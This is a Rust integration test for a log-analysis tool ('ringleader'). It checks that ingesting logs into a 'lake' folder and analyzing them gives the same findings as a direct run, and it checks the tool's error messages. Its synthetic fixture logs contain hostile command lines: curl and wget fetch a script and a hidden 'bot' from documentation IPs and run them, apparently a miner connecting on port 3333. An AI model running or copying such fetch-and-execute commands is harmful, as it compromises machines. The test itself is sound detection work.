//! `run` on files, and `ingest` + `analyze` of the same files: one folder of findings, byte for byte.
#![cfg(feature = "lake")]
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn ringleader(arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ringleader")).args(arguments).env("NO_COLOR", "1").output().unwrap()
}

fn good(arguments: &[&str]) -> String {
    let output = ringleader(arguments);
    assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

fn bad(arguments: &[&str]) -> String {
    let output = ringleader(arguments);
    assert_eq!(output.status.code(), Some(2), "{arguments:?}");
    String::from_utf8(output.stderr).unwrap()
}

/// Logs of every format, a bot on several hosts, and what goes wrong.
fn logs(to: &Path) {
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/collect");
    for format in std::fs::read_dir(fixtures).unwrap().map(|it| it.unwrap().path()) {
        let folder = to.join(format.file_name().unwrap());
        std::fs::create_dir_all(&folder).unwrap();
        for file in std::fs::read_dir(&format).unwrap().map(|it| it.unwrap().path()) {
            if file.extension().is_some_and(|it| it == "in") {
                std::fs::copy(&file, folder.join(file.file_name().unwrap())).unwrap();
            }
        }
    }
    let fleet = to.join("fleet");
    std::fs::create_dir(&fleet).unwrap();
    for host in 0..8 {
        let mut log = String::new();
        for (n, (pid, ppid, line)) in [
            (101, 1, "sh -c curl -s http://192.0.2.7/x.sh -o /tmp/x.sh; sh /tmp/x.sh".to_owned()),
            (102, 101, "curl -s http://192.0.2.7/x.sh -o /tmp/x.sh".to_owned()),
            (103, 101, "sh /tmp/x.sh".to_owned()),
            (104, 103, "wget http://198.51.100.9/.y/bot -O /tmp/.b".to_owned()),
            (105, 103, format!("/tmp/.b -o 198.51.100.9:3333 -u w{host}")),
        ]
        .into_iter()
        .enumerate()
        {
            log.push_str(&format!(
                r#"{{"time":"2026-03-0{} 10:00:{:02}.5","host":"web{host}","cmd_line":"{line}","pid":{pid},"ppid":{ppid}}}"#,
                1 + host % 3,
                host * 6 + n
            ));
            log.push('\n');
        }
        std::fs::write(fleet.join(format!("web{host}.ndjson")), log).unwrap();
    }
    std::fs::write(to.join("broken.ndjson"), "{\"time\":\"2026-03-01 10:00:00\",\"cmd_line\":\"ls\"}\n{broken\n")
        .unwrap();
    std::fs::write(to.join("unknown.bin"), "nothing that anybody writes").unwrap();
    std::fs::copy(fleet.join("web3.ndjson"), to.join("again.ndjson")).unwrap();
    std::os::unix::fs::symlink(to.join("nowhere"), to.join("gone.log")).unwrap();
}

fn files(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut files = BTreeMap::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(at) = folders.pop() {
        for path in std::fs::read_dir(at).unwrap().map(|it| it.unwrap().path()) {
            if path.is_dir() {
                folders.push(path);
            } else {
                files.insert(path.strip_prefix(folder).unwrap().to_owned(), std::fs::read(&path).unwrap());
            }
        }
    }
    files
}

/// Takes what may differ from run to run.
fn take_run(files: &mut BTreeMap<PathBuf, Vec<u8>>) -> serde_json::Value {
    serde_json::from_slice(&files.remove(Path::new("run.json")).unwrap()).unwrap()
}

#[test]
fn a_lake_gives_the_folder_of_a_run() {
    let at = tempfile::tempdir().unwrap();
    let path = |name: &str| at.path().join(name).display().to_string();
    logs(&at.path().join("logs"));
    let (input, fleet, lake) = (path("logs"), path("logs/fleet"), path("lake"));
    let (local, out, part) = (path("local"), path("out"), path("part"));

    good(&["run", &input, "--year", "2026", "--processes", "--out", &local]);
    let told = good(&["ingest", &fleet, "--year", "2026", "--lake", &lake]);
    assert!(told.starts_with("8 files new, 0 files already there"), "{told}");
    let told = good(&["ingest", &input, "--year", "2026", "--lake", &lake]);
    assert!(told.contains(" 8 files already there, 0 files changed while being read, 1 file unreadable"), "{told}");
    assert!(told.contains("gone.log: no such file or directory"), "{told}");
    let told = good(&["analyze", "--lake", &lake, "--processes", "--out", &out]);
    assert!(told.contains("gang"), "{told}");

    let (mut local, mut out) = (files(Path::new(&local)), files(Path::new(&out)));
    take_run(&mut local);
    let run = take_run(&mut out);
    assert!(run["inputs"].as_array().unwrap().len() > 48);
    let gangs: serde_json::Value = serde_json::from_slice(&local[Path::new("gangs.json")]).unwrap();
    assert!(!gangs.as_array().unwrap().is_empty());
    assert_eq!(out.keys().collect::<Vec<_>>(), local.keys().collect::<Vec<_>>());
    let differ: Vec<_> = local.iter().filter(|(name, bytes)| out[*name] != **bytes).map(|it| it.0).collect();
    assert!(differ.is_empty(), "{differ:?}");

    // One day of it.
    let (since, until) = ("2026-03-02T00:00:00Z", "2026-03-03T08:00:00+08:00");
    good(&["analyze", "--lake", &lake, "--since", since, "--until", until, "--out", &part]);
    let gangs: serde_json::Value = serde_json::from_slice(&files(Path::new(&part))[Path::new("gangs.json")]).unwrap();
    let gangs = gangs.as_array().unwrap();
    assert!(!gangs.is_empty());
    for time in gangs.iter().flat_map(|it| [&it["who"]["first_seen"], &it["who"]["last_seen"]]) {
        assert!(time.as_str().unwrap().starts_with("2026-03-02T"), "{time}");
    }

    assert!(
        bad(&["analyze", "--lake", &lake, "--since", "yesterday"]).contains("write a time as 2026-03-01T08:00:00Z")
    );
    assert!(bad(&["analyze", "--lake", &path("none")]).contains("ingest makes one"));
    assert!(bad(&["ingest", &input, "--lake", "s3://bucket/lake"]).contains("a lake is a folder"));
    assert!(bad(&["ingest", &input, "--lake", &input]).contains("holds other files"));
}
